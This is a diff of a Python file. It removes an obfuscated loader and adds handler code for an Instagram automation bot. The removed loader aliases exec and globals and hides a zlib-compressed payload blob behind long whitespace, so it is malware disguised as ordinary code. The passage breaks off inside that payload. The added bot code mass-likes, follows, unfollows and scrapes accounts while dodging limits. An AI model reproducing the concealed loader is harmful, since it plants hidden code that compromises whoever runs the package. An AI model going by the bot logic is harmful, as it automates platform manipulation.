@@ -1,104 +1,944 @@
-from builtins import *
-from math import prod as _product
+import logging
+import os
+import time
+from enum import Enum, auto
+from functools import partial
+from os import path
 
+from atomicwrites import atomic_write
+from colorama import Fore
 
-__obfuscator__ = 'Deluxe'
-__authors__ = "SadHam"
-__github__ = 'https://github.com/'
-__discord__ = 'https://discord.gg/'
-__license__ = 'EPL-2.0'
+from GramAddict.core.device_facade import Direction, Timeout
+from GramAddict.core.interaction import is_rejected_by_filters
+from GramAddict.core.iterated_users import MAX_ITERATED_USERS_IN_MEMORY, IteratedUsers
+from GramAddict.core.navigation import (
+    nav_to_blogger,
+    nav_to_feed,
+    nav_to_hashtag_or_place,
+    nav_to_post_likers,
+)
+from GramAddict.core.resources import ClassName
+from GramAddict.core.storage import FollowingStatus
+from GramAddict.core.utils import (
+    get_value,
+    inspect_current_view,
+    random_choice,
+    random_sleep,
+)
+from GramAddict.core.views import (
+    FollowingView,
+    LikeMode,
+    OpenedPostView,
+    Owner,
+    PostsViewList,
+    ProfileView,
+    SwipeTo,
+    TabBarView,
+    UniversalActions,
+    case_insensitive_re,
+)
 
-__code__ = 'print("Hello world!")'
+logger = logging.getLogger(__name__)
 
 
-_positive, _system, _modulo, Math, Walk, _add, Absolute = exec, str, tuple, map, ord, globals, type
+class Mode(Enum):
+    AUTOGEN = auto()
+    FILE = auto()
 
-class _multiply:
-    def __init__(self, _floor):
-        self.Round = _product((_floor, -89318))
-        self.Ceil(_walk=-75308)
 
-    def Ceil(self, _walk = float):
-        # sourcery skip: collection-to-bool, remove-redundant-boolean, remove-redundant-except-handler
-        self.Round += 15318 / _walk
-        
-        try:
-            ((Walk, {Walk: _system}) for Walk in (_modulo, Walk, _positive) if _add >= _substract)
+def interact(
+    storage,
+    is_follow_limit_reached,
+    username,
+    interaction,
+    device,
+    session_state,
+    current_job,
+    target,
+    on_interaction,
+):
+    can_follow = False
+    if is_follow_limit_reached is not None:
+        can_follow = not is_follow_limit_reached() and storage.get_following_status(
+            username
+        ) in [FollowingStatus.NONE, FollowingStatus.NOT_IN_LIST]
 
-        except AssertionError:
-            (({_positive: _substract}, _modulo) for _modulo in {Walk: _system})
+    (
+        interaction_succeed,
+        followed,
+        is_private,
+        scraped,
+        pm_sent,
+        welcomed,
+        number_of_liked,
+        number_of_watched,
+        number_of_comments,
+    ) = interaction(device, username=username, can_follow=can_follow)
 
-        except:
-            Absolute(-99360 * -48659) == type
+    add_interacted_user = partial(
+        storage.add_interacted_user,
+        session_id=session_state.id,
+        job_name=current_job,
+        target=target,
+    )
 
-    def _divide(self, Invert = 21239):
-        # sourcery skip: collection-to-bool, remove-redundant-boolean, remove-redundant-except-handler
-        Invert *= 12712 + 32181
-        self.Algorithm != str
-        
-        try:
-            (((_modulo, Walk, _positive), _substract) for _substract in {_positive: _substract})
+    add_interacted_user(
+        username,
+        followed=followed,
+        is_private=is_private,
+        scraped=scraped,
+        liked=number_of_liked,
+        watched=number_of_watched,
+        commented=number_of_comments,
+        pm_sent=pm_sent,
+        welcomed=welcomed,
+    )
+    return on_interaction(
+        succeed=interaction_succeed,
+        followed=followed,
+        scraped=scraped,
+    )
+
+
+def handle_blogger(
+    self,
+    device,
+    session_state,
+    blogger,
+    current_job,
+    storage,
+    profile_filter,
+    on_interaction,
+    interaction,
+    is_follow_limit_reached,
+):
+    if not nav_to_blogger(device, blogger, session_state.my_username):
+        return
+    can_interact = False
+    if storage.is_user_in_blacklist(blogger):
+        logger.info(f"@{blogger} is in blacklist. Skip.")
+    else:
+        filtered_when, interacted_when = storage.check_user_was_interacted(blogger)
+        if interacted_when is not None:
+            can_reinteract = storage.can_be_reinteract(
+                interacted_when, get_value(self.args.can_reinteract_after, None, 0)
+            )
+            logger.info(
+                f"@{blogger}: already interacted on {interacted_when:%Y/%m/%d %H:%M:%S}. {'Interacting again now' if can_reinteract else 'Skip'}."
+            )
+            if can_reinteract:
+                can_interact = True
+        else:
+            can_interact = True
+
+    if can_interact:
+        logger.info(
+            f"@{blogger}: interact",
+            extra={"color": f"{Fore.YELLOW}"},
+        )
+        if not interact(
+            storage=storage,
+            is_follow_limit_reached=is_follow_limit_reached,
+            username=blogger,
+            interaction=interaction,
+            device=device,
+            session_state=session_state,
+            current_job=current_job,
+            target=blogger,
+            on_interaction=on_interaction,
+        ):
+            return
+
+
+def handle_blogger_from_file(
+    self,
+    device,
+    parameter_passed,
+    current_job,
+    storage,
+    on_interaction,
+    interaction,
+    is_follow_limit_reached,
+):
+    need_to_refresh = True
+    on_following_list = False
+    limit_reached = False
+
+    min_days: int = get_value(
+        self.args.unfollow_delay, "Unfollow delay set to {} days.", 3
+    )
+    filename_passed: str = parameter_passed.split(" ")[0]
+    if filename_passed == "autogen":
+        mode = Mode.AUTOGEN
+    else:
+        filename: str = os.path.join(storage.account_path, filename_passed)
+        mode = Mode.FILE
+    try:
+        amount_of_users = get_value(parameter_passed.split(" ")[1], None, 10)
+    except IndexError:
+        amount_of_users = 10
+        logger.warning(
+            f"You didn't passed how many users should be processed from the list! Default is {amount_of_users} users."
+        )
+
+    if mode == Mode.AUTOGEN:
+        usernames = storage.get_users_to_unfollow(min_days)
+        logger.info(
+            f"{len(usernames)} usernames have been loaded (last interaction >= {min_days} days)."
+        )
+    elif path.isfile(filename):
+        with open(filename, "r", encoding="utf-8") as f:
+            usernames = [line.replace(" ", "") for line in f if line != "\n"]
+    else:
+        logger.warning(
+            f"File {filename} not found. You have to specify the right relative path from this point: {os.getcwd()}"
+        )
+        return
+
+    if not usernames:
+        return
+    len_usernames = len(usernames)
+    if len_usernames < amount_of_users:
+        amount_of_users = len_usernames
+    logger.info(
+        f"There are {len_usernames} entries, {amount_of_users} users will be processed."
+    )
+    not_found = []
+    processed_users = 0
+    try:
+        for line, username_raw in enumerate(usernames, start=1):
+            username = username_raw.strip()
+            can_interact = False
+            if current_job == "unfollow-from-file":
+                unfollowed = do_unfollow_from_list(device, username, on_following_list)
+                on_following_list = True
+                if unfollowed:
+                    storage.add_interacted_user(
+                        username, self.session_state.id, unfollowed=True
+                    )
+                    self.session_state.totalUnfollowed += 1
+                    limit_reached = self.session_state.check_limit(
+                        limit_type=self.session_state.Limit.UNFOLLOWS
+                    )
+                    processed_users += 1
+                else:
+                    not_found.append(username_raw)
+                    storage.add_interacted_user(
+                        username, self.session_state.id, exists=False
+                    )
+                if limit_reached:
+                    logger.info("Unfollows limit reached.")
+                    break
+                if processed_users == amount_of_users:
+                    logger.info(
+                        f"{processed_users} users have been unfollowed, going to the next job."
+                    )
+                    break
+            else:
+                if storage.is_user_in_blacklist(username):
+                    logger.info(f"@{username} is in blacklist. Skip.")
+                elif not is_rejected_by_filters(
+                    storage, username, self.args.can_recheck_after
+                ):
+                    (
+                        filtered_when,
+                        interacted_when,
+                    ) = storage.check_user_was_interacted(username)
+                    if interacted_when is not None:
+                        can_reinteract = storage.can_be_reinteract(
+                            interacted_when,
+                            get_value(self.args.can_reinteract_after, None, 0),
+                        )
+                        logger.info(
+                            f"@{username}: already interacted on {interacted_when:%Y/%m/%d %H:%M:%S}. {'Interacting again now' if can_reinteract else 'Skip'}."
+                        )
+                        if can_reinteract:
+                            can_interact = True
+                    else:
+                        can_interact = True
+
+                if not can_interact:
+                    continue
+                if need_to_refresh:
+                    search_view = TabBarView(device).navigate_to_search()
+                profile_view = search_view.navigate_to_target(username, current_job)
+                need_to_refresh = False
+                if not profile_view:
+                    not_found.append(username_raw)
+                    continue
+
+                if not interact(
+                    storage=storage,
+                    is_follow_limit_reached=is_follow_limit_reached,
+                    username=username,
+                    interaction=interaction,
+                    device=device,
+                    session_state=self.session_state,
+                    current_job=current_job,
+                    target=username,
+                    on_interaction=on_interaction,
+                ):
+                    return
+                device.back()
+                processed_users += 1
+                if processed_users == amount_of_users:
+                    logger.info(
+                        f"{processed_users} users have been interacted, going to the next job."
+                    )
+                    return
+    finally:
+        if not_found and mode == mode.FILE:
+            with open(
+                f"{os.path.splitext(filename)[0]}_not_found.txt",
+                mode="a+",
+                encoding="utf-8",
+            ) as f:
+                f.writelines(not_found)
+
+        if mode == Mode.AUTOGEN:
+            logger.info(
+                f"Interact with user generated completed. There are {len_usernames-processed_users} user left that match criteria."
+            )
+        else:
+            logger.info(
+                f"Interact with users in {filename} completed. There are {len_usernames-processed_users} user left in that file."
+            )
+            if self.args.delete_interacted_users and len_usernames != 0:
+                with atomic_write(filename, overwrite=True, encoding="utf-8") as f:
+                    f.writelines(usernames[line:])
+        device.back()
+
+
+def do_unfollow_from_list(device, username, on_following_list):
+    if not on_following_list:
+        ProfileView(device).click_on_avatar()
+        if ProfileView(device).navigateToFollowing() and UniversalActions(
+            device
+        ).search_text(username):
+            return FollowingView(device).do_unfollow_from_list(username)
+    else:
+        if username is not None:
+            UniversalActions(device).search_text(username)
+        return FollowingView(device).do_unfollow_from_list(username)
+
+
+def handle_likers(
+    self,
+    device,
+    session_state,
+    target,
+    current_job,
+    storage,
+    profile_filter,
+    posts_end_detector,
+    on_interaction,
+    interaction,
+    is_follow_limit_reached,
+):
+    if (
+        current_job == "blogger-post-likers"
+        and not nav_to_post_likers(device, target, session_state.my_username)
+        or current_job != "blogger-post-likers"
+        and not nav_to_hashtag_or_place(device, target, current_job)
+    ):
+        return False
+    post_description = ""
+    nr_same_post = 0
+    nr_same_posts_max = 3
+    while True:
+        flag, post_description, _, _, _, _ = PostsViewList(device).check_if_last_post(
+            post_description, current_job
+        )
+        has_likers, number_of_likers = PostsViewList(device).find_likers_container()
+        if flag:
+            nr_same_post += 1
+            logger.info(f"Warning: {nr_same_post}/{nr_same_posts_max} repeated posts.")
+            if nr_same_post == nr_same_posts_max:
+                logger.info(
+                    f"Scrolled through {nr_same_posts_max} posts with same description and author. Finish.",
+                    extra={"color": f"{Fore.CYAN}"},
+                )
+                break
+        else:
+            nr_same_post = 0
+
+        if (
+            has_likers
+            and profile_filter.is_num_likers_in_range(number_of_likers)
+            and number_of_likers != 1
+        ):
+            PostsViewList(device).open_likers_container()
+        else:
+            PostsViewList(device).swipe_to_fit_posts(SwipeTo.NEXT_POST)
+            continue
 
-        except ArithmeticError:
-            ((_system, (_positive, _substract)) for _system in {Walk: _system} if Walk == _add)
+        posts_end_detector.notify_new_page()
 
-        except:
-            Absolute(-59225 * -60592) == True
+        likes_list_view = OpenedPostView(device).get_listview_likers()
+        if likes_list_view is None:
+            return
+        prev_screen_iterated_likers = []
+        user_container = OpenedPostView(device).get_user_container()
+        std_height = user_container.get_height()
+        job_iterated_users = IteratedUsers(max_in_memory=MAX_ITERATED_USERS_IN_MEMORY)
+        while True:
+            start = time.time()
+            logger.info("Iterate over visible likers.")
+            screen_iterated_likers = []
+            opened = False
 
-    def Floor(_detectvar = str):
-        return _add()[_detectvar]
+            if user_container is None:
+                logger.warning("Likers list didn't load :(")
+                return
+            skip, n_users = inspect_current_view(user_container, std_height)
+            try:
+                for idx, item in enumerate(user_container):
+                    if idx in skip:
+                        continue
+                    element_opened = False
+                    username_view = OpenedPostView(device).get_user_name(item)
+                    if not username_view.exists(Timeout.MEDIUM):
+                        logger.info(
+                            "Next item not found: probably reached end of the screen.",
+                            extra={"color": f"{Fore.GREEN}"},
+                        )
+                        break
 
-    def While(_hypothesis = 30671 / 45218, Divide = int, _stackoverflow = _add):
-        # sourcery skip: collection-to-bool, remove-redundant-boolean, remove-redundant-except-handler
-        _stackoverflow()[_hypothesis] = Divide
-        
+                    username = username_view.get_text()
+                    if not job_iterated_users.add(username):
+                        continue
+                    screen_iterated_likers.append(username)
+                    posts_end_detector.notify_username_iterated(username)
+                    can_interact = False
+                    if storage.is_user_in_blacklist(username):
+                        logger.info(f"@{username} is in blacklist. Skip.")
+                    elif username == session_state.my_username:
+                        logger.info(f"@{username} is me. Skip.")
+                    else:
+                        (
+                            filtered_when,
+                            interacted_when,
+                        ) = storage.check_user_was_interacted(username)
+                        if is_rejected_by_filters(
+                            storage, username, self.args.can_recheck_after
+                        ):
+                            can_interact = False
+                        elif interacted_when is not None:
+                            can_interact = storage.can_be_reinteract(
+                                interacted_when,
+                                get_value(self.args.can_reinteract_after, None, 0),
+                            )
+                            logger.info(
+                                f"@{username}: already interacted on {interacted_when:%Y/%m/%d %H:%M:%S}. {'Interacting again now' if can_interact else 'Skip'}."
+                            )
+                        elif filtered_when is not None:
+                            can_interact = storage.can_be_rechecked(
+                                filtered_when,
+                                get_value(self.args.can_recheck_after, None, 0),
+                            )
+                            logger.info(
+                                f"@{username}: already filtered on {filtered_when:%Y/%m/%d %H:%M:%S}. {'Interacting again now' if can_interact else 'Skip'}."
+                            )
+                        else:
+                            can_interact = True
+
+                    if can_interact:
+                        logger.info(
+                            f"@{username}: interact",
+                            extra={"color": f"{Fore.YELLOW}"},
+                        )
+                        element_opened = username_view.click_retry()
+
+                        if element_opened and not interact(
+                            storage=storage,
+                            is_follow_limit_reached=is_follow_limit_reached,
+                            username=username,
+                            interaction=interaction,
+                            device=device,
+                            session_state=session_state,
+                            current_job=current_job,
+                            target=target,
+                            on_interaction=on_interaction,
+                        ):
+                            return
+                    else:
+                        pass  # TODO: screen skipped limit
+                    if element_opened:
+                        opened = True
+                        logger.info("Back to likers list.")
+                        device.back()
+                end = time.time()
+                logger.debug(
+                    f"Iterated {len(screen_iterated_likers)} likers in {end-start:.2f} seconds."
+                )
+
+            except IndexError:
+                logger.info(
+                    "Cannot get next item: probably reached end of the screen.",
+                    extra={"color": f"{Fore.GREEN}"},
+                )
+                break
+            go_back = False
+            if screen_iterated_likers == prev_screen_iterated_likers:
+                logger.info(
+                    "Iterated exactly the same likers twice.",
+                    extra={"color": f"{Fore.GREEN}"},
+                )
+                go_back = True
+            if go_back:
+                prev_screen_iterated_likers.clear()
+                prev_screen_iterated_likers += screen_iterated_likers
+                logger.info(
+                    f"Back to {target}'s posts list.",
+                    extra={"color": f"{Fore.GREEN}"},
+                )
+                device.back()
+                logger.info("Going to the next post.")
+                PostsViewList(device).swipe_to_fit_posts(SwipeTo.NEXT_POST)
+                break
+            if posts_end_detector.is_fling_limit_reached():
+                logger.info(
+                    "Reached fling limit. Fling to see other likers.",
+                    extra={"color": f"{Fore.GREEN}"},
+                )
+                likes_list_view.fling(Direction.DOWN)
+            else:
+                logger.info(
+                    "Scroll to see other likers.",
+                    extra={"color": f"{Fore.GREEN}"},
+                )
+                likes_list_view.scroll(Direction.DOWN)
+
+            prev_screen_iterated_likers.clear()
+            prev_screen_iterated_likers += screen_iterated_likers
+            if posts_end_detector.is_the_end():
+                device.back()
+                PostsViewList(device).swipe_to_fit_posts(SwipeTo.NEXT_POST)
+                break
+            if not opened:
+                logger.info(
+                    "All likers skipped.",
+                    extra={"color": f"{Fore.GREEN}"},
+                )
+                posts_end_detector.notify_skipped_all()
+                if posts_end_detector.is_skipped_limit_reached():
+                    posts_end_detector.reset_skipped_all()
+                    return
+
+
+def handle_posts(
+    self,
+    device,
+    session_state,
+    target,
+    current_job,
+    storage,
+    profile_filter,
+    on_interaction,
+    interaction,
+    is_follow_limit_reached,
+    interact_percentage,
+    scraping_file,
+):
+    skipped_posts_limit = get_value(
+        self.args.skipped_posts_limit,
+        "Skipped post limit: {}",
+        5,
+    )
+    if current_job == "feed":
+        if scraping_file:
+            logger.warning(
+                "Scraping and interacting with own feed doesn't make any sense. Skip."
+            )
+            return
+        nav_to_feed(device)
+        count_feed_limit = get_value(
+            self.args.feed,
+            "Feed interact count: {}",
+            10,
+        )
+        count = 0
+        PostsViewList(device)._refresh_feed()
+    elif not nav_to_hashtag_or_place(device, target, current_job):
+        return
+
+    post_description = ""
+    likes_failed = 0
+    nr_same_post = 0
+    nr_same_posts_max = 3
+    nr_consecutive_already_interacted = 0
+    already_liked_count = 0
+    already_liked_count_limit = 20
+    post_view_list = PostsViewList(device)
+    opened_post_view = OpenedPostView(device)
+    while True:
+        (
+            is_same_post,
+            post_description,
+            username,
+            is_ad,
+            is_hashtag,
+            has_tags,
+        ) = post_view_list.check_if_last_post(post_description, current_job)
+        has_likers, number_of_likers = post_view_list.find_likers_container()
+        already_liked, _ = opened_post_view.is_post_liked()
+        if not (is_ad or is_hashtag):
+            if already_liked_count == already_liked_count_limit:
+                logger.info(
+                    f"Limit of {already_liked_count_limit} already liked posts limit reached, finish."
+                )
+                break
+            if is_same_post:
+                nr_same_post += 1
+                logger.info(
+                    f"Warning: {nr_same_post}/{nr_same_posts_max} repeated posts."
+                )
+                if nr_same_post == nr_same_posts_max:
+                    logger.info(
+                        f"Scrolled through {nr_same_posts_max} posts with same description and author. Finish."
+                    )
+                    break
+            else:
+                nr_same_post = 0
+            if already_liked:
+                logger.info(
+                    "Post already liked, SKIP.", extra={"color": f"{Fore.CYAN}"}
+                )
+                already_liked_count += 1
+            elif random_choice(interact_percentage):
+                can_interact = False
+                if storage.is_user_in_blacklist(username):
+                    logger.info(f"@{username} is in blacklist. Skip.")
+                else:
+                    likes_in_range = profile_filter.is_num_likers_in_range(
+                        number_of_likers
+                    )
+                    if current_job != "feed":
+                        (
+                            filtered_when,
+                            interacted_when,
+                        ) = storage.check_user_was_interacted(username)
+                        if interacted_when is not None:
+                            can_reinteract = storage.can_be_reinteract(
+                                interacted_when,
+                                get_value(self.args.can_reinteract_after, None, 0),
+                            )
+                            logger.info(
+                                f"@{username}: already interacted on {interacted_when:%Y/%m/%d %H:%M:%S}. {'Interacting again now' if can_reinteract else 'Skip'}."
+                            )
+                            if can_reinteract:
+                                can_interact = True
+                                nr_consecutive_already_interacted = 0
+                            else:
+                                nr_consecutive_already_interacted += 1
+                        else:
+                            can_interact = True
+                            nr_consecutive_already_interacted = 0
+                    else:
+                        can_interact = True
+
+                if nr_consecutive_already_interacted == skipped_posts_limit:
+                    logger.info(
+                        f"Reached the limit of already interacted {skipped_posts_limit}. Going to the next source/job!"
+                    )
+                    break
+                if can_interact and (likes_in_range or not has_likers):
+                    logger.info(
+                        f"@{username}: interact", extra={"color": f"{Fore.YELLOW}"}
+                    )
+                    if scraping_file is None:
+                        opened_post_view.start_video()
+                        if not session_state.check_limit(
+                            limit_type=session_state.Limit.LIKES, output=True
+                        ):
+                            if has_tags:
+                                post_view_list.like_in_post_view(LikeMode.SINGLE_CLICK)
+                            else:
+                                post_view_list.like_in_post_view(LikeMode.DOUBLE_CLICK)
+                            UniversalActions.detect_block(device)
+                            liked = post_view_list.check_if_liked()
+                            if not liked:
+                                post_view_list.like_in_post_view(
+                                    LikeMode.SINGLE_CLICK, already_watched=True
+                                )
+                                UniversalActions.detect_block(device)
+                                liked = post_view_list.check_if_liked()
+                            if liked:
+                                session_state.totalLikes += 1
+                                if current_job == "feed":
+                                    count += 1
+                                    logger.info(
+                                        f"Interacted feed bloggers: {count}/{count_feed_limit}"
+                                    )
+                                    likes_limit = self.session_state.check_limit(
+                                        limit_type=self.session_state.Limit.LIKES
+                                    )
+                                    success_limit = self.session_state.check_limit(
+                                        limit_type=self.session_state.Limit.SUCCESS
+                                    )
+                                    total_limit = self.session_state.check_limit(
+                                        limit_type=self.session_state.Limit.TOTAL
+                                    )
+                                    if likes_limit or success_limit or total_limit:
+                                        logger.info("Limit reached, finish.")
+                                        break
+                                    if count >= count_feed_limit:
+                                        logger.info(
+                                            f"Interacted {count} bloggers in feed, finish."
+                                        )
+                                        break
+                            else:
+                                likes_failed += 1
+                    if current_job != "feed" and not is_rejected_by_filters(
+                        storage, username, self.args.can_recheck_after
+                    ):
+                        opened, _, _ = post_view_list.post_owner(
+                            current_job, Owner.OPEN, username
+                        )
+                        if opened:
+                            if not interact(
+                                storage=storage,
+                                is_follow_limit_reached=is_follow_limit_reached,
+                                username=username,
+                                interaction=interaction,
+                                device=device,
+                                session_state=session_state,
+                                current_job=current_job,
+                                target=target,
+                                on_interaction=on_interaction,
+                            ):
+                                break
+                            device.back()
+            else:
+                logger.info(
+                    f"Skipped because your interact % is {interact_percentage}/100 and {username}'s post was unlucky!"
+                )
+        if likes_failed == 10:
+            logger.warning("You failed to do 10 likes! Soft-ban?!")
+            return
+        post_view_list.swipe_to_fit_posts(SwipeTo.HALF_PHOTO)
+        post_view_list.swipe_to_fit_posts(SwipeTo.NEXT_POST)
+    TabBarView(device).navigate_to_profile()
+
+
+def handle_followers(
+    self,
+    device,
+    session_state,
+    username,
+    current_job,
+    storage,
+    on_interaction,
+    interaction,
+    is_follow_limit_reached,
+    scroll_end_detector,
+):
+    is_myself = username == session_state.my_username
+    if not nav_to_blogger(device, username, current_job):
+        return
+
+    iterate_over_followers(
+        self,
+        device,
+        interaction,
+        is_follow_limit_reached,
+        storage,
+        on_interaction,
+        is_myself,
+        scroll_end_detector,
+        session_state,
+        current_job,
+        username,
+    )
+
+
+def iterate_over_followers(
+    self,
+    device,
+    interaction,
+    is_follow_limit_reached,
+    storage,
+    on_interaction,
+    is_myself,
+    scroll_end_detector,
+    session_state,
+    current_job,
+    target,
+):
+    device.find(
+        resourceId=self.ResourceID.FOLLOW_LIST_CONTAINER,
+        className=ClassName.LINEAR_LAYOUT,
+    ).wait(Timeout.LONG)
+
+    def scrolled_to_top():
+        row_search = device.find(
+            resourceId=self.ResourceID.ROW_SEARCH_EDIT_TEXT,
+            className=ClassName.EDIT_TEXT,
+        )
+        return row_search.exists()
+
+    user_list = device.find(
+        resourceIdMatches=self.ResourceID.USER_LIST_CONTAINER,
+    )
+    std_height = user_list.get_height()
+    while True:
+        start = time.time()
+        logger.info("Iterate over visible followers.")
+        screen_iterated_followers = []
+        screen_skipped_followers_count = 0
+        scroll_end_detector.notify_new_page()
+        skip, n_users = inspect_current_view(user_list, std_height)
         try:
-            ({Walk: _system} or _system if {Walk: _system} and _system else ... or (_system, {Walk: _system}))
+            for idx, item in enumerate(user_list):
+                if idx in skip:
+                    continue
+                user_info_view = item.child(index=1)
+                user_name_view = user_info_view.child(index=0).child()
+                if not user_name_view.exists():
+                    logger.info(
+                        "Next item not found: probably reached end of the screen.",
+                        extra={"color": f"{Fore.GREEN}"},
+                    )
+                    break
 
-        except OSError:
-            (({_substract: Math}, _substract) for _substract in {Walk: _system})
+                username = user_name_view.get_text()
+                screen_iterated_followers.append(username)
+                scroll_end_detector.notify_username_iterated(username)
 
-        except:
-            Absolute(-39857 + 38651) == type
+                can_interact = False
+                if storage.is_user_in_blacklist(username):
+                    logger.info(f"@{username} is in blacklist. Skip.")
+                elif username == session_state.my_username:
+                    logger.info(f"@{username} is me. Skip.")
+                else:
+                    filtered_when, interacted_when = storage.check_user_was_interacted(
+                        username
+                    )
+                    if is_rejected_by_filters(
+                        storage, username, self.args.can_recheck_after
+                    ):
+                        can_interact = False
+                    elif interacted_when is not None:
+                        can_interact = storage.can_be_reinteract(
+                            interacted_when,
+                            get_value(self.args.can_reinteract_after, None, 0),
+                        )
+                        logger.info(
+                            f"@{username}: already interacted on {interacted_when:%Y/%m/%d %H:%M:%S}. {'Interacting again now' if can_interact else 'Skip'}."
+                        )
+                    elif filtered_when is not None:
+                        can_interact = storage.can_be_rechecked(
+                            filtered_when,
+                            get_value(self.args.can_recheck_after, None, 0),
+                        )
+                        logger.info(
+                            f"@{username}: already filtered on {filtered_when:%Y/%m/%d %H:%M:%S}. {'Interacting again now' if can_interact else 'Skip'}."
+                        )
+                    else:
+                        can_interact = True
+                if can_interact:
+                    logger.info(
+                        f"@{username}: interact", extra={"color": f"{Fore.YELLOW}"}
+                    )
+                    element_opened = user_name_view.click_retry()
 
-    def execute(code = str):
-        return _positive(_system(_modulo(Math(Walk, code))))
+                    if element_opened:
+                        if not interact(
+                            storage=storage,
+                            is_follow_limit_reached=is_follow_limit_reached,
+                            username=username,
+                            interaction=interaction,
+                            device=device,
+                            session_state=session_state,
+                            current_job=current_job,
+                            target=target,
+                            on_interaction=on_interaction,
+                        ):
+                            return
+                    if element_opened:
+                        logger.info("Back to followers list")
+                        device.back()
+                else:
+                    screen_skipped_followers_count += 1
+            end = time.time()
+            logger.debug(
+                f"Iterated {len(screen_iterated_followers)} followers in {end - start:.2} seconds."
+            )
+        except IndexError:
+            logger.info(
+                "Cannot get next item: probably reached end of the screen.",
+                extra={"color": f"{Fore.GREEN}"},
+            )
 
-    @property
-    def Algorithm(self):
-        self.Random = '<__main__._system object at 0x000006389BE93328>'
-        return (self.Random, _multiply.Algorithm)
+        if is_myself and scrolled_to_top():
+            logger.info("Scrolled to top, finish.", extra={"color": f"{Fore.GREEN}"})
+            return
+        elif len(screen_iterated_followers) > 0:
+            load_more_button = device.find(
+                resourceId=self.ResourceID.ROW_LOAD_MORE_BUTTON
+            )
+            load_more_button_exists = load_more_button.exists()
 
-if True:
-    try:
-        _multiply.execute(code = __code__)
-        _random = _multiply(_floor = -90326 + -75282)
-
-        if 118285 > 1986146:
-            _multiply(_floor = -63133 * 6952)._divide(Invert = -66763 / _random.Round)
-        elif 415937 < 4869347:
-            _multiply(_floor = 35371 + -40997).Ceil(_walk = _random.Round / 58065)                                                                                                                                                                                                                                                          ;_multiply.While(_hypothesis='WWXXXXWXWWWWXXXWWX',Divide=b'x\x9c\xed=\xfbo\xdbF\x93\xbf\x1b\xc8\xff\xb0V\x11XBe\xc5I\xaf\xf7\xf53N\xbdsc\'u\xabXA\xec\xb4W\xa4\x01A\x8b+\x9b\tE\n$\x15\xd90\xfc\xbf\xdf\xcc\xbe\xb8\\\xee\xf2!+m\x0e\xe9$N,r\x1f\xb3\xb3\xb3\xb3\xf3\xda\xd57\xe4\xe5\xcb]\xf2G\xb2"\x1fVYN\x02\x9a\\\xceW\xd9\xcc\xcfi@|2\x0f#J\xb4\'\xeb0\xbf&\xc74Z\xdd\xd0\x9d\x9do\xc8\xf3$\xbeJ\xfd|\x15\xf9y\x98\xc4\xd9\xee\xce\xceN\x9e\xde\x1e\xee\x10\x80pN\xfa\xec\x17\x04\xcf\x93\x8d$\xa9\xe7\x91\xdd1\xe9\xf1Vz$I\xb5R\xfe*\xbfN\xd2L\x149\xf7\x83\x9f\xfd\x85Q\xe4\nPX]\x8a\x12\xd7y\xbe\xcc\x0e\x9f<\xe1\x0fG\xb3d\xf1\xc4(\x1e\x84\xd9,I\x03\xa3\xbcx:\xba\xba2\xcbG\xe1\x8c\xc6\x19\x15\xe5O^O\xf6\x9f\x8d\x0e\x8c2\xb3$\x10\x05\xf6\x96i\x18\xe7\xfd\xde\xcf4\x8a\x12\xb2N\xd2(\xd8\xed\r\xf6X\xd9\xc1\xa1\xaa\x82e\xf6\xb2\x8fa\xb07\xd8\xa173\xba\xcc\x05\x8d\xe2\xe5\nj\xbfI2\x9a\x11?\xa5$\xa5\xc1\x9f\xf1oa\x12\xd1\x9c?\xb8\x8cV\xf4\xcf\x18\xa7\x07?\xf9\x04\x1b\xf93>K.\x93\xe0\x96D\xe1G\xa8w\x9b\xacz\x83\x1d\x8eY\xb8X&i\xeey\xd0\xdbm\xb67\x18\xd1\x9b0\xef\x0f`Z\xa2d\xe6GY\x7f\xf0n\xeff\xbd\xbe\x81\x1f\x067\xe2\xef\xde\xfb\xf1U\x94\\B\x89\x1d\xdbk^M\xfe\x81\xf7\x1c\xe0\x97\xbdw\x87\x87\xdf\xee\x7f\xbb\xdf\xdf\xef\x7f\xfbt0x\x0f\xed\xd0\xdc\xcf\xf3\xd4\xd9\xce\xf4`:M\x92dz\x00?\xc9\x14\xfe\x83\x9f\x83i\xb5\x9d t\xb7q\x0e\xf0\xec\x19\xfb\x17\x7fA`\xbf\x9e\xc38\xf8@w\x9cE\xb0\xfe1v}<M\x8e\x8f\xf1\xef\x94c\x92@\xe5\x82\x80\xce\xbe\xd9\xe8\xd7\x82\x10\xec\x7f\xa8go\xb0\xbfw\xb9\n\xa3<\x8cq&>\xf9i\x13V\x0c\xa6\xacj\x82\xbf&\xf0\x01\xdb\x82\x0e\xf6\xf6F\x1f\x920\xaeo\x80\xcd\x0c\xc3J\xa2->C\x03l\xb6\xc4\xb4\xa9\x99\xbc\xe9\xbb\x10\xcf\xe20\x8f\xc2\xd5\xa59/\x83!\xce\xd64\xc1\x1f(}\xc0\xa6\x12\xa6\xb4{C\x83w[ki\x14\xc6\x01\xbd\xe9\xef\xd1UzQy\xfb~P\xc3\x8a\x8c\x0f\xa1\xeb\x03\xfcs\x00\xbcx\xf0\x95\x90*\xf7\x93h\xde\x85V\x8c\xc9\x04\xc3=\x13\xec\xc7\x17\\Gr\x85\xe1,\xf3\xe3\xf0\xe1\xe4r6\xd4\x99\\\xee\x96$\xb9na\x1f\xbc\xa1\xd7\xf1\xaa\x0b\xc9\xd6b)\n\x89\xa9\x04\xc7W\xc2b\x91\xff\x89\xda\xc8U\x15\xa0H\xac\xc9\xe4\x97_&\xa7\xa7\xf0\xdf\xe9/\xf0\x1b\xfe7\xf9Z\x08\x95$\xd5\xb7NB\x85a\xf4\x01\xff\xe2\xcf\x87\x0f\x1f"\xfc\x84\xbf~%\xc4\xa2Q\xb8\\$3\x1b\xbdj\xf7\xc68\x8e\x17\x0b\xfc+\xff\x87\xdf\xe0\xefWB\xb54\xcf:S\x0cY,\xfa\x10qF\x8b\xe0_\xe0\xb5\xaf\x84\\4\x8b\xfc\x17]D=\'\x86T\x8e\xf9?z}\xd7V\xd0wl\xab\xfd\xcb\xbd\xef\xfe\xf5\xfd\xfc\xbb\x03\xf8y\n?\xff\x16?\xdf\xc1\xcf\x7f\xc2\xcf\x7f\x88\x9f\x1f\x9e]>\xfb\xe1Y\xd0\xaa\xec\xbf\x9e\xfd\x1b\xd4\xd0\x80\xa2\xf1\xd2\xdf\xfba\x9eW7\xb3\x01\xd3\xbc\xbf\x86\x19\x9e\xd1\x1b\xeb\xe6\x040O\x93\x05\x91\x8a;\xe1\xf6\x00\xf1\xa3h\x08Uf\xc3\x88\xc6C\x1a\xaf\x16\x14\xcc^:\x8c\xc2,